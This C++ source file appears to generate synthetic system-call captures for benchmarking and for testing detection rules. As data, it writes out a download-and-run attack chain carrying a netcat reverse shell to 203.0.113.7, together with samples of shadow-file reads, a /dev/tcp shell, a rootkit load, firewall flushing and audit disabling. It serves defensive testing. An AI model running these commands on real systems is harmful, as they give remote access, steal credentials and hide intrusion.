// saker-gencap: writes synthetic captures with the scapfile writer.
//  --scenario load   many processes doing file, network and process work (benchmarks)
//  --scenario shell  one interactive shell session with a few suspicious steps (samples/)
#include <cstdio>
#include <filesystem>
#include <functional>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <CLI/CLI.hpp>

#include "saker/scap/error.h"
#include "saker/scap/writer.h"

namespace {

using namespace saker::scap;

constexpr uint64_t kStart = 1732521600000000000ull;  // 2024-11-25 08:00:00 UTC
constexpr int64_t kAtFdcwd = -100;

struct Proc {
  uint64_t pid;
  uint64_t ppid;
  std::string comm, exe, args, cwd;
  uint32_t uid;
  int64_t next_fd = 3;
};

class Emitter {
 public:
  Emitter(Writer& w, uint16_t cpus) : w_(w), cpus_(cpus) {}
  uint64_t events() const { return events_; }

  void openat(Proc& p, const std::string& path, uint32_t flags, int64_t fd) {
    enter(EventType::SyscallOpenat_2E, p)
        .num<int64_t>(kAtFdcwd)
        .str(path)
        .num<uint32_t>(flags)
        .num<uint32_t>(0644);
    put();
    exit(EventType::SyscallOpenat_2X, p)
        .num<int64_t>(fd)
        .num<int64_t>(kAtFdcwd)
        .str(path)
        .num<uint32_t>(flags)
        .num<uint32_t>(0644)
        .num<uint32_t>(0x803)
        .num<uint64_t>(1000 + static_cast<uint64_t>(fd));
    put();
  }
  void read(Proc& p, int64_t fd, std::string_view data, EventType type = EventType::SyscallReadE) {
    enter(type, p).num<int64_t>(fd).num<uint32_t>(static_cast<uint32_t>(data.size()));
    put();
    exit(exit_of(type), p)
        .num<int64_t>(static_cast<int64_t>(data.size()))
        .bytes(data.data(), data.size())
        .num<int64_t>(fd)
        .num<uint32_t>(static_cast<uint32_t>(data.size()));
    put();
  }
  void write(Proc& p, int64_t fd, std::string_view data) { read(p, fd, data, EventType::SyscallWriteE); }
  void set_exe_flags(uint32_t f) { exe_flags_ = f; }
  void set_cgroups(std::string c) { cgroups_ = std::move(c); }
  void close(Proc& p, int64_t fd) {
    enter(EventType::SyscallCloseE, p).num<int64_t>(fd);
    put();
    exit(EventType::SyscallCloseX, p).num<int64_t>(0).num<int64_t>(fd);
    put();
  }
  void socket_connect(Proc& p, int64_t fd, const uint8_t local[4], uint16_t lport, const uint8_t remote[4],
                      uint16_t rport) {
    enter(EventType::SocketSocketE, p).num<uint32_t>(2).num<uint32_t>(1).num<uint32_t>(0);
    put();
    exit(EventType::SocketSocketX, p)
        .num<int64_t>(fd)
        .num<uint32_t>(2)
        .num<uint32_t>(1)
        .num<uint32_t>(0)
        .num<uint32_t>(0);
    put();
    uint8_t addr[7] = {2,
                       remote[0],
                       remote[1],
                       remote[2],
                       remote[3],
                       static_cast<uint8_t>(rport),
                       static_cast<uint8_t>(rport >> 8)};
    enter(EventType::SocketConnectE, p).num<int64_t>(fd).bytes(addr, sizeof addr);
    put();
    uint8_t tuple[13] = {2,
                         local[0],
                         local[1],
                         local[2],
                         local[3],
                         static_cast<uint8_t>(lport),
                         static_cast<uint8_t>(lport >> 8),
                         remote[0],
                         remote[1],
                         remote[2],
                         remote[3],
                         static_cast<uint8_t>(rport),
                         static_cast<uint8_t>(rport >> 8)};
    exit(EventType::SocketConnectX, p)
        .num<int64_t>(0)
        .bytes(tuple, sizeof tuple)
        .num<int64_t>(fd)
        .bytes(addr, sizeof addr);
    put();
  }
  void clone(Proc& parent, const Proc& child) {
    enter(EventType::SyscallClone_20E, parent);
    put();
    for (int side = 0; side < 2; ++side) {
      const Proc& self = side == 0 ? parent : child;
      auto& b = exit(EventType::SyscallClone_20X, self);
      process_params(b, side == 0 ? static_cast<int64_t>(child.pid) : 0, parent, self.pid,
                     side == 0 ? parent.ppid : parent.pid, {100, 8000, 3000})
          .num<uint32_t>(0x01000000)
          .num<uint32_t>(parent.uid)
          .num<uint32_t>(parent.uid)
          .num<int64_t>(static_cast<int64_t>(self.pid))
          .num<int64_t>(static_cast<int64_t>(self.pid));
      put();
    }
  }
  void execve(Proc& p, const std::string& exe, const std::vector<std::string>& argv) {
    enter(EventType::SyscallExecve_19E, p).str(exe);
    put();
    p.exe = argv[0];
    p.comm = exe.substr(exe.rfind('/') + 1);
    p.args.clear();
    for (size_t i = 1; i < argv.size(); ++i) {
      p.args += argv[i];
      p.args += '\0';
    }
    auto& b = exit(EventType::SyscallExecve_19X, p);
    process_params(b, 0, p, p.pid, p.ppid, {60, 5000, 1200})
        .bytes("HOME=/root\0PATH=/usr/bin:/bin\0", 30)
        .num<uint32_t>(34816)
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<uint32_t>(1000)
        .num<uint32_t>(exe_flags_)
        .num<uint64_t>(0)
        .num<uint64_t>(0)
        .num<uint64_t>(0)
        .num<uint64_t>(4242)
        .num<uint64_t>(kStart)
        .num<uint64_t>(kStart)
        .num<uint32_t>(p.uid)
        .str(exe)
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<uint32_t>(p.uid)
        .str(exe);
    put();
  }
  void chmod(Proc& p, const std::string& path, uint32_t mode) {
    enter(EventType::SyscallChmodE, p);
    put();
    exit(EventType::SyscallChmodX, p).num<int64_t>(0).str(path).num<uint32_t>(mode);
    put();
  }
  void unlink(Proc& p, const std::string& path) {
    enter(EventType::SyscallUnlinkat_2E, p);
    put();
    exit(EventType::SyscallUnlinkat_2X, p).num<int64_t>(0).num<int64_t>(kAtFdcwd).str(path).num<uint32_t>(0);
    put();
  }
  void setuid(Proc& p, uint32_t uid) {
    enter(EventType::SyscallSetuidE, p).num<uint32_t>(uid);
    put();
    exit(EventType::SyscallSetuidX, p).num<int64_t>(0).num<uint32_t>(uid);
    put();
    p.uid = uid;
  }
  void raw(EventType type, const Proc& p, const std::function<void(EventBuilder&)>& params) {
    auto& b = begin(type, p);
    params(b);
    put();
  }
  void syscall_pair(EventType exit_type, const Proc& p,
                    const std::function<void(EventBuilder&)>& exit_params) {
    begin(enter_of(exit_type), p);
    put();
    raw(exit_type, p, exit_params);
  }
  void unlink_path(Proc& p, const std::string& path) {
    syscall_pair(EventType::SyscallUnlink_2X, p, [&](EventBuilder& b) { b.num<int64_t>(0).str(path); });
  }
  void mount(Proc& p, const std::string& dev, const std::string& dir, const std::string& type) {
    syscall_pair(EventType::SyscallMountX, p,
                 [&](EventBuilder& b) { b.num<int64_t>(0).str(dev).str(dir).str(type).num<uint32_t>(0); });
  }
  void unshare(Proc& p, uint32_t flags) {
    syscall_pair(EventType::SyscallUnshareX, p,
                 [&](EventBuilder& b) { b.num<int64_t>(0).num<uint32_t>(flags); });
  }
  void dup2(Proc& p, int64_t oldfd, int64_t newfd) {
    syscall_pair(EventType::SyscallDup2X, p,
                 [&](EventBuilder& b) { b.num<int64_t>(newfd).num<int64_t>(oldfd).num<int64_t>(newfd); });
  }
  void bpf_prog_load(Proc& p, int64_t fd) {
    syscall_pair(EventType::SyscallBpf_2X, p,
                 [&](EventBuilder& b) { b.num<int64_t>(fd).num<uint32_t>(5); });  // BPF_PROG_LOAD
  }
  void finit_module(Proc& p, int64_t fd) {
    syscall_pair(EventType::SyscallFinitModuleX, p,
                 [&](EventBuilder& b) { b.num<int64_t>(0).num<int64_t>(fd).str("").num<uint32_t>(0); });
  }
  void ptrace_attach(Proc& p, int64_t pid) {
    syscall_pair(EventType::SyscallPtraceX, p, [&](EventBuilder& b) {
      uint8_t dyn[9] = {0};
      b.num<int64_t>(0).bytes(dyn, 9).bytes(dyn, 9).num<uint16_t>(5).num<int64_t>(pid);  // PPM_PTRACE_ATTACH
    });
  }
  void unix_connect(Proc& p, int64_t fd, const std::string& path) {
    enter(EventType::SocketSocketE, p).num<uint32_t>(1).num<uint32_t>(1).num<uint32_t>(0);
    put();
    exit(EventType::SocketSocketX, p)
        .num<int64_t>(fd)
        .num<uint32_t>(1)
        .num<uint32_t>(1)
        .num<uint32_t>(0)
        .num<uint32_t>(0);
    put();
    std::string tuple(17, '\0');
    tuple[0] = 1;
    tuple += path;
    tuple += '\0';
    std::string addr(1, '\1');
    addr += path;
    addr += '\0';
    enter(EventType::SocketConnectE, p).num<int64_t>(fd).bytes(addr.data(), addr.size());
    put();
    exit(EventType::SocketConnectX, p)
        .num<int64_t>(0)
        .bytes(tuple.data(), tuple.size())
        .num<int64_t>(fd)
        .bytes(addr.data(), addr.size());
    put();
  }
  void procexit(Proc& p) {
    enter(EventType::Procexit_1E, p)
        .num<int64_t>(0)
        .num<int64_t>(0)
        .num<uint8_t>(0)
        .num<uint8_t>(0)
        .num<int64_t>(0);
    put();
  }

 private:
  struct Memory {
    uint64_t minor_faults;
    uint32_t vm_size_kb, vm_rss_kb;
  };
  // The parameters clone and execve exits start with: result, the process image (exe, args,
  // cwd, comm, cgroups of `image`), ids, fd limit and memory.
  EventBuilder& process_params(EventBuilder& b, int64_t res, const Proc& image, uint64_t pid, uint64_t ptid,
                               Memory mem) {
    return b.num<int64_t>(res)
        .str(image.exe)
        .bytes(image.args.data(), image.args.size())
        .num<int64_t>(static_cast<int64_t>(pid))
        .num<int64_t>(static_cast<int64_t>(pid))
        .num<int64_t>(static_cast<int64_t>(ptid))
        .str(image.cwd)
        .num<int64_t>(1024)
        .num<uint64_t>(0)
        .num<uint64_t>(mem.minor_faults)
        .num<uint32_t>(mem.vm_size_kb)
        .num<uint32_t>(mem.vm_rss_kb)
        .num<uint32_t>(0)
        .str(image.comm)
        .bytes(cgroups_.data(), cgroups_.size());
  }
  EventBuilder& enter(EventType type, const Proc& p) { return begin(type, p); }
  EventBuilder& exit(EventType type, const Proc& p) { return begin(type, p); }
  EventBuilder& begin(EventType type, const Proc& p) {
    ts_ += 1000 + (events_ * 7919) % 5000;
    return b_.begin(type, ts_, p.pid, static_cast<uint16_t>(p.pid % cpus_));
  }
  void put() {
    w_.write_event(b_.view());
    ++events_;
  }

  Writer& w_;
  uint16_t cpus_;
  EventBuilder b_;
  uint64_t ts_ = kStart;
  uint64_t events_ = 0;
  uint32_t exe_flags_ = 0;
  std::string cgroups_ = std::string("cpu=/user.slice\0", 16);
};

Metadata base_metadata(const std::vector<Proc>& procs) {
  Metadata m;
  m.machine = MachineInfo{4, 8ull << 30, 0, "saker-sample", kStart - 3600000000000ull, 0};
  Interface lo;
  lo.name = "lo";
  lo.addr = {127, 0, 0, 1};
  lo.netmask = {255, 0, 0, 0};
  Interface eth;
  eth.name = "eth0";
  eth.addr = {10, 0, 0, 5};
  eth.netmask = {255, 255, 255, 0};
  m.interfaces = {lo, eth};
  m.users = {{0, 0, "root", "/root", "/bin/bash"}, {1000, 1000, "alice", "/home/alice", "/bin/bash"}};
  m.groups = {{0, "root"}, {1000, "alice"}};
  for (const auto& p : procs) {
    ThreadEntry t;
    t.tid = t.pid = p.pid;
    t.ptid = p.ppid;
    t.comm = p.comm;
    t.exe = p.exe;
    t.exepath = p.exe.front() == '/' ? p.exe : "/usr/bin/" + p.exe;
    t.args = p.args;
    t.cwd = p.cwd;
    t.uid = t.gid = p.uid;
    t.fdlimit = 1024;
    t.sid = static_cast<int64_t>(p.pid);
    t.vtid = t.vpid = static_cast<int64_t>(p.pid);
    t.cgroups = std::string("cpu=/user.slice\0", 16);
    t.loginuid = p.uid;
    t.tail_len = 76;
    m.threads.push_back(t);
    FdTable fds;
    fds.tid = p.pid;
    for (int64_t fd = 0; fd < 3; ++fd) {
      FdEntry e;
      e.fd = fd;
      e.type = FdType::FileV2;
      e.name = "/dev/pts/0";
      e.open_flags = 3;
      fds.fds.push_back(e);
    }
    m.fd_tables.push_back(fds);
  }
  return m;
}

void shell_scenario(Writer& w) {
  std::vector<Proc> procs = {{1, 0, "systemd", "/sbin/init", "", "/", 0},
                             {812, 1, "sshd", "/usr/sbin/sshd", std::string("-D\0", 3), "/", 0},
                             {4100, 812, "bash", "-bash", "", "/home/alice", 1000}};
  w.begin_section(base_metadata(procs));
  Emitter e(w, 4);
  Proc& bash = procs[2];
  uint64_t next_pid = 4200;
  auto run = [&](const std::string& exe, const std::vector<std::string>& argv, auto body) {
    Proc child{next_pid++, bash.pid, bash.comm, bash.exe, bash.args, bash.cwd, bash.uid};
    e.clone(bash, child);
    e.execve(child, exe, argv);
    body(child);
    e.procexit(child);
  };
  const uint8_t local[4] = {10, 0, 0, 5};
  run("/usr/bin/id", {"id"}, [&](Proc& p) {
    e.openat(p, "/etc/passwd", 1 | (1 << 12), 3);
    e.read(p, 3, "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    e.close(p, 3);
    e.write(p, 1, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\n");
  });
  run("/usr/bin/cat", {"cat", "/etc/shadow"}, [&](Proc& p) {
    e.openat(p, "/etc/shadow", 1, 3);
    e.read(p, 3, "root:$6$Zk3...:19000:0:99999:7:::\n");
    e.write(p, 1, "root:$6$Zk3...:19000:0:99999:7:::\n");
    e.close(p, 3);
  });
  run("/usr/bin/curl", {"curl", "-s", "http://203.0.113.7/payload.sh", "-o", "/tmp/payload.sh"},
      [&](Proc& p) {
        const uint8_t remote[4] = {203, 0, 113, 7};
        e.socket_connect(p, 3, local, 51514, remote, 80);
        e.write(p, 3, "GET /payload.sh HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: curl/7.88.1\r\n\r\n");
        e.read(p, 3,
               "HTTP/1.1 200 OK\r\nContent-Length: 42\r\n\r\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
        e.openat(p, "/tmp/payload.sh", 2 | 4 | (1 << 8), 4);
        e.write(p, 4, "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
        e.close(p, 4);
        e.close(p, 3);
      });
  run("/usr/bin/chmod", {"chmod", "+x", "/tmp/payload.sh"},
      [&](Proc& p) { e.chmod(p, "/tmp/payload.sh", 0755); });
  run("/tmp/payload.sh", {"/tmp/payload.sh"}, [&](Proc& p) {
    const uint8_t remote[4] = {203, 0, 113, 7};
    e.socket_connect(p, 3, local, 40022, remote, 4444);
    e.read(p, 3, "id\n");
    e.write(p, 3, "uid=1000(alice)\n");
  });
  run("/usr/bin/sudo", {"sudo", "-i"}, [&](Proc& p) {
    e.openat(p, "/etc/sudoers", 1, 3);
    e.read(p, 3, "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n");
    e.close(p, 3);
    e.setuid(p, 0);
    e.openat(p, "/root/.bash_history", 1, 4);
    e.close(p, 4);
  });
  run("/usr/bin/rm", {"rm", "-f", "/tmp/payload.sh"}, [&](Proc& p) { e.unlink(p, "/tmp/payload.sh"); });
  std::fprintf(stderr, "shell scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
}

void load_scenario(Writer& w, uint64_t target, uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::vector<Proc> procs;
  for (uint64_t i = 0; i < 256; ++i)
    procs.push_back({1000 + i, 1, fmt::format("worker{}", i % 16), "/usr/bin/worker",
                     std::string("--serve\0", 8), "/srv", 33});
  w.begin_section(base_metadata(procs));
  Emitter e(w, 4);
  const std::vector<std::string> paths = {"/etc/hosts",         "/var/log/app.log", "/srv/data/index.db",
                                          "/usr/lib/libc.so.6", "/tmp/cache.bin",   "/proc/self/status"};
  std::string payload(512, 'x');
  for (size_t i = 0; i < payload.size(); ++i) payload[i] = static_cast<char>('a' + i % 26);
  const uint8_t local[4] = {10, 0, 0, 5};
  const uint8_t remote[4] = {10, 0, 0, 9};
  uint64_t next_pid = 5000;
  uint64_t last_report = 0;
  while (e.events() < target) {
    Proc& p = procs[rng() % procs.size()];
    uint64_t r = rng() % 100;
    if (r < 60) {
      size_t n = 32 + rng() % 480;
      if (r % 2)
        e.read(p, 0, std::string_view(payload).substr(0, n));
      else
        e.write(p, 1, std::string_view(payload).substr(0, n));
    } else if (r < 85) {
      int64_t fd = 3 + static_cast<int64_t>(rng() % 8);
      e.openat(p, paths[rng() % paths.size()], 1, fd);
      e.read(p, fd, std::string_view(payload).substr(0, 128));
      e.close(p, fd);
    } else if (r < 97) {
      int64_t fd = 20;
      e.socket_connect(p, fd, local, static_cast<uint16_t>(30000 + rng() % 30000), remote, 443);
      e.write(p, fd, std::string_view(payload).substr(0, 200));
      e.close(p, fd);
    } else {
      Proc child{next_pid++, p.pid, p.comm, p.exe, p.args, p.cwd, p.uid};
      e.clone(p, child);
      e.execve(child, "/usr/bin/helper", {"helper", "--once"});
      e.procexit(child);
    }
    if (e.events() - last_report >= 1000000) {
      last_report = e.events();
      std::fprintf(stderr, "\r%llu events", static_cast<unsigned long long>(last_report));
    }
  }
  std::fprintf(stderr, "\rload scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
}

constexpr char kContainerId[] = "8f3c2a1b9d4e";
constexpr char kContainerFullId[] = "8f3c2a1b9d4e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";

std::string container_cgroups() {
  return std::string("cpu=/docker/") + kContainerFullId + '\0';
}

// One small capture per rule of the default ruleset, plus a benign one, for rule tests.
class RuleSamples {
 public:
  explicit RuleSamples(std::string dir) : dir_(std::move(dir)) { std::filesystem::create_directories(dir_); }

  // `body` runs processes under a bash session (uid 1000, or in a container).
  void sample(const std::string& slug, bool in_container, const std::function<void(Emitter&, Proc&)>& body) {
    std::vector<Proc> procs = {{1, 0, "systemd", "/sbin/init", "", "/", 0},
                               {812, 1, "sshd", "/usr/sbin/sshd", std::string("-D\0", 3), "/", 0},
                               {4100, 812, "bash", "-bash", "", "/home/alice", 1000}};
    if (in_container) {
      procs.push_back({5000, 1, "containerd-shim", "/usr/bin/containerd-shim", "", "/", 0});
      procs.push_back({5100, 5000, "nginx", "nginx", "", "/", 0});
    }
    Metadata m = base_metadata(procs);
    if (in_container) {
      for (auto& t : m.threads)
        if (t.pid == 5100) t.cgroups = container_cgroups();
    }
    Writer w(dir_ + "/" + slug + ".scap");
    w.begin_section(m);
    Emitter e(w, 2);
    if (in_container) {
      EventBuilder b;
      std::string json = std::string("{\"container\":{\"id\":\"") + kContainerFullId +
                         "\",\"type\":0,\"name\":\"web\",\"image\":\"nginx:1.25\",\"imagerepo\":\"nginx\","
                         "\"imagetag\":\"1.25\",\"privileged\":false,\"Mounts\":[],\"labels\":{}}}";
      w.write_event(b.begin(EventType::ContainerJson_2E, kStart - 1000, UINT64_MAX).str(json).view());
      e.set_cgroups(container_cgroups());
    }
    Proc& root = in_container ? procs[4] : procs[2];
    body(e, root);
    w.close();
    ++count_;
  }
  int count() const { return count_; }

 private:
  std::string dir_;
  int count_ = 0;
};

// Runs `exe` as a child of `parent` (clone then execve), then `body`, then exit.
template <typename F>
void run(Emitter& e, Proc& parent, uint64_t pid, const std::string& exe, const std::vector<std::string>& argv,
         F body) {
  Proc child{pid, parent.pid, parent.comm, parent.exe, parent.args, parent.cwd, parent.uid};
  e.clone(parent, child);
  e.execve(child, exe, argv);
  body(child);
  e.procexit(child);
}

void rules_scenario(const std::string& dir) {
  RuleSamples s(dir);
  const uint8_t local[4] = {10, 0, 0, 5};
  const uint8_t pub[4] = {198, 51, 100, 23};
  auto none = [](Proc&) {};
  constexpr uint32_t kRead = 1, kWrite = 2, kCreate = 4, kTrunc = 1u << 8;

  s.sample("sensitive-file-read-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/etc/shadow"},
        [&](Proc& p) { e.openat(p, "/etc/shadow", kRead, 3); });
  });
  s.sample("program-run-from-a-temporary-directory", false,
           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/tmp/x", {"/tmp/x"}, none); });
  s.sample("permission-change-below-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "+x", "/tmp/x"},
        [&](Proc& p) { e.chmod(p, "/tmp/x", 0755); });
  });
  s.sample("download-tool-connects-outside-the-private-network", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/wget", {"wget", "http://198.51.100.23/a"},
        [&](Proc& p) { e.socket_connect(p, 3, local, 40000, pub, 80); });
  });
  s.sample("network-connection-from-a-program-in-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/dev/shm/.k", {"/dev/shm/.k"},
        [&](Proc& p) { e.socket_connect(p, 3, local, 40001, pub, 443); });
  });
  s.sample("user-switched-to-root", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/sudo", {"sudo", "-s"}, [&](Proc& p) { e.setuid(p, 0); });
  });
  s.sample("shell-history-opened-by-another-program", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/vim", {"vim", ".bash_history"},
        [&](Proc& p) { e.openat(p, "/home/alice/.bash_history", kWrite | kTrunc, 3); });
  });
  s.sample("file-deleted-below-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/rm", {"rm", "/tmp/x"}, [&](Proc& p) { e.unlink(p, "/tmp/x"); });
  });
  s.sample("credential-directory-written", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/tee", {"tee", "/etc/sudoers.d/99-x"},
        [&](Proc& p) { e.openat(p, "/etc/sudoers.d/99-x", kWrite | kCreate, 3); });
  });
  s.sample("kernel-module-loaded", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/sbin/insmod", {"insmod", "rootkit.ko"}, [&](Proc& p) {
      e.openat(p, "/home/alice/rootkit.ko", kRead, 3);
      e.finit_module(p, 3);
    });
  });
  s.sample("process-attached-to-another-with-ptrace", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/gdb", {"gdb", "-p", "812"}, [&](Proc& p) { e.ptrace_attach(p, 812); });
  });
  s.sample("fileless-execution-from-memory", false, [&](Emitter& e, Proc& sh) {
    e.set_exe_flags(4);  // PPM_EXE_FROM_MEMFD
    run(e, sh, 6001, "/memfd:x (deleted)", {"x"}, none);
    e.set_exe_flags(0);
  });
  s.sample("shell-started-in-a-container", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/bin/sh", {"sh", "-i"}, none);
  });
  s.sample("package-manager-run-in-a-container", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/usr/bin/apt-get", {"apt-get", "install", "-y", "nmap"}, none);
  });
  s.sample("shell-spawned-by-a-web-server", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/bin/bash", {"bash", "-c", "id"}, none);
  });
  s.sample("persistence-location-written", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/tee", {"tee", "/etc/cron.d/update"},
        [&](Proc& p) { e.openat(p, "/etc/cron.d/update", kWrite | kCreate, 3); });
  });
  s.sample("log-file-truncated-or-deleted", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/truncate", {"truncate", "-s0", "/var/log/auth.log"},
        [&](Proc& p) { e.openat(p, "/var/log/auth.log", kWrite | kTrunc, 3); });
  });
  s.sample("binary-directory-written", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/cp", {"cp", "x", "/usr/local/bin/ls"},
        [&](Proc& p) { e.openat(p, "/usr/local/bin/ls", kWrite | kCreate | kTrunc, 3); });
  });
  s.sample("ssh-authorized-keys-changed", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/tee", {"tee", "-a", ".ssh/authorized_keys"},
        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/authorized_keys", kWrite | (1u << 3), 3); });
  });
  s.sample("setuid-or-setgid-bit-set", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "u+s", "/home/alice/sh"},
        [&](Proc& p) { e.chmod(p, "/home/alice/sh", 04755); });
  });
  s.sample("mount-inside-a-container", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/bin/mount", {"mount", "/dev/sda1", "/mnt"},
        [&](Proc& p) { e.mount(p, "/dev/sda1", "/mnt", "ext4"); });
  });
  s.sample("namespace-change-inside-a-container", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/usr/bin/unshare", {"unshare", "-U", "-r"}, [&](Proc& p) { e.unshare(p, 1u << 20); });
  });
  s.sample("process-memory-or-environment-read", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/proc/812/environ"},
        [&](Proc& p) { e.openat(p, "/proc/812/environ", kRead, 3); });
  });
  s.sample("container-runtime-socket-connected", true, [&](Emitter& e, Proc& app) {
    run(e, app, 6001, "/usr/bin/curl",
        {"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
        [&](Proc& p) { e.unix_connect(p, 3, "/var/run/docker.sock"); });
  });
  s.sample("socket-redirected-to-standard-input-or-output", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/python3", {"python3", "-c", "..."}, [&](Proc& p) {
      e.socket_connect(p, 3, local, 40002, pub, 8443);
      e.dup2(p, 3, 0);
    });
  });
  s.sample("netcat-run-with-command-execution", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/nc", {"nc", "-e", "/bin/sh", "198.51.100.23", "9001"}, none);
  });
  s.sample("connection-to-a-mining-pool-port", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/home/alice/xmr", {"xmr"},
        [&](Proc& p) { e.socket_connect(p, 3, local, 40003, pub, 3333); });
  });
  s.sample("bpf-program-loaded", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/home/alice/loader", {"loader"}, [&](Proc& p) { e.bpf_prog_load(p, 5); });
  });
  s.sample("user-account-created-or-changed", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/sbin/useradd", {"useradd", "-m", "backup2"}, none);
  });
  s.sample("password-database-written-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/python3", {"python3", "add_user.py"},
        [&](Proc& p) { e.openat(p, "/etc/passwd", kWrite | (1u << 3), 3); });
  });
  s.sample("shell-history-deleted", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/rm", {"rm", "-f", "/home/alice/.bash_history"},
        [&](Proc& p) { e.unlink_path(p, "/home/alice/.bash_history"); });
  });
  s.sample("ssh-private-key-read-by-an-unexpected-program", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/bin/base64", {"base64", ".ssh/id_ed25519"},
        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/id_ed25519", kRead, 3); });
  });
  s.sample("outbound-connection-from-a-shell", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/198.51.100.23/9001"},
        [&](Proc& p) { e.socket_connect(p, 3, local, 40004, pub, 9001); });
  });
  s.sample("firewall-rules-flushed-or-disabled", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/sbin/iptables", {"iptables", "-F"}, none);
  });
  s.sample("audit-logging-stopped", false, [&](Emitter& e, Proc& sh) {
    run(e, sh, 6001, "/usr/sbin/auditctl", {"auditctl", "-e", "0"}, none);
  });
  s.sample("program-run-from-a-hidden-directory", false,
           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/home/alice/.x/miner", {"miner"}, none); });

  // Everyday administration that no rule should flag.
  s.sample("benign", false, [&](Emitter& e, Proc& sh) {
    const uint8_t mirror[4] = {10, 0, 0, 9};
    run(e, sh, 6001, "/usr/bin/ls", {"ls", "-la"},
        [&](Proc& p) { e.openat(p, "/home/alice", kRead | (1u << 10), 3); });
    run(e, sh, 6002, "/usr/bin/cat", {"cat", "/etc/hosts"}, [&](Proc& p) {
      e.openat(p, "/etc/hosts", kRead, 3);
      e.read(p, 3, "127.0.0.1 localhost\n");
      e.close(p, 3);
    });
    run(e, sh, 6003, "/usr/bin/vim", {"vim", "notes.txt"},
        [&](Proc& p) { e.openat(p, "/home/alice/notes.txt", kWrite | kCreate | kTrunc, 3); });
    run(e, sh, 6004, "/usr/bin/curl", {"curl", "http://10.0.0.9/status"},
        [&](Proc& p) { e.socket_connect(p, 3, local, 40005, mirror, 80); });
    run(e, sh, 6005, "/usr/bin/ssh", {"ssh", "build01"},
        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/id_ed25519", kRead, 3); });
    run(e, sh, 6006, "/usr/bin/git", {"git", "status"},
        [&](Proc& p) { e.openat(p, "/home/alice/src/.git/HEAD", kRead, 3); });
  });
  std::fprintf(stderr, "rules scenario: %d captures in %s\n", s.count(), dir.c_str());
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"saker-gencap: write a synthetic capture with Saker's writer"};
  std::string out, scenario = "load", compression = "none";
  uint64_t events = 2000000, seed = 1;
  app.add_option("-o,--output", out, "Capture to write")->required();
  app.add_option("--scenario", scenario,
                 "load, shell, or rules (one capture per default rule, -o names a directory)")
      ->check(CLI::IsMember({"load", "shell", "rules"}));
  app.add_option("--events", events, "Events to write (load scenario)");
  app.add_option("--seed", seed, "Random seed (load scenario)");
  app.add_option("--compress", compression, "none, gzip or zstd")
      ->check(CLI::IsMember({"none", "gzip", "zstd"}));
  CLI11_PARSE(app, argc, argv);
  try {
    if (scenario == "rules") {
      rules_scenario(out);
      return 0;
    }
    WriterOptions o;
    o.compression = compression == "gzip"   ? Compression::Gzip
                    : compression == "zstd" ? Compression::Zstd
                                            : Compression::None;
    Writer w(out, o);
    if (scenario == "shell")
      shell_scenario(w);
    else
      load_scenario(w, events, seed);
    w.close();
  } catch (const CaptureError& e) {
    std::fprintf(stderr, "saker-gencap: %s\n", e.what());
    return 1;
  }
  return 0;
}
